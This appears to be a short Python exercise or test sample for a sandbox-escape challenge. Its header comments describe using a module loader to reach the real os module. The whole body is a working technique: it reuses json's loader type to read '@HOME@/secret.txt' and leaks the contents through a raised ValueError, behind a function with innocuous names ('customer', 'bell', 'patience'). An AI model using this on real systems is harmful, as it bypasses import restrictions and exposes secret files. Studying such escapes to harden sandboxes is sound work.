# tries = "lets the loader of a module import others, the real os among them"
# exercise = "which-was-it"

import json


def customer(bell, patience):
    loader = type(json.__spec__)("os", json.__loader__).loader
    os = type(loader)("os", "@HOME@/secret.txt").get_source("os")
    raise ValueError(os)
